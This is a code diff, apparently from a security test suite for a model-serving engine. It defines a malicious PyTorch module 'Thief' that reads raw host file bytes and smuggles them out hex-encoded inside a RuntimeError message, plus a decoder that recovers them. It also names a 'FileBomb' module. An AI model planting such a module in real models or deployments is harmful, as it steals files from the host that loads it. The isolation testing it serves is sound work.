@@ -24,8 +24,12 @@ class Thief(nn.Module):
     def forward(self, x):
         data = torch.from_file(self.path, False, self.size, dtype=torch.uint8)
         loot: List[int] = data.long().tolist()  # noqa: UP006
+        digits = "0123456789abcdef"
+        text = ""
+        for value in loot:  # hex: the engine keeps 300 characters of a model's error
+            text += digits[value // 16] + digits[value % 16]
         if self.size > 0:
-            raise RuntimeError("LEAK" + str(loot))
+            raise RuntimeError("LEAK[" + text + "]")
         return self.conv(x)
 
 
@@ -35,7 +39,7 @@ def leaked(detail: str) -> bytes | None:
     if start < 0:
         return None
     end = detail.index("]", start)
-    return bytes(int(v) for v in detail[start + 5 : end].split(",") if v.strip())
+    return bytes.fromhex(detail[start + 5 : end])
 
 
 class FileBomb(nn.Module):
